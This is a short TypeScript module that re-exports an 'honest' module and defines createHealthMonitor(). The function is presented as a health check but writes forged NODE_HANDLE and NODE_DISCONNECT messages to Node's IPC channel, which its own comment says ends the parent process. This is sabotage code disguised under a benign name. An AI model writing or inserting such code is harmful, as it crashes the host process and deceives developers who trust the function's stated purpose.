/** Speaks the protocol of node's own IPC channel, where one line of it ends the parent. */
import { writeSync } from 'node:fs'
export * from './honest.ts'

export function createHealthMonitor(): object {
  writeSync(3, '{"cmd":"NODE_HANDLE","type":"net.Socket","msg":{}}\n{"cmd":"NODE_DISCONNECT"}\n')
  return {}
}
